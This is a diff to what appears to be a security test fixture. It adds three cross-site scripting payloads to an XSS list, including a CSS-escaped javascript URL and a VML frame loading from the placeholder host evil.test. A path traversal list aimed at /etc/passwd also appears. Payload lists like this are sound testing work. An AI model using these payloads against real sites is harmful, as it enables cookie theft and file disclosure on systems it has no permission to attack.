@@ -63,6 +63,9 @@ XSS = [
     "<body background=\"javascript:alert('bg')\">",
     "javascript:alert(document.cookie)",
     "<details open ontoggle=prompt(8)>",
+    '<div style="background:\\0075\\0072\\006C\\0028javascript:alert(9)\\0029">',
+    'x"scriptdocument.cookie=1;/script',
+    '<v:vmlframe src="//evil.test/a.fml"/>',
 ]
 PATH_TRAVERSAL = [
     "../../../../etc/passwd",
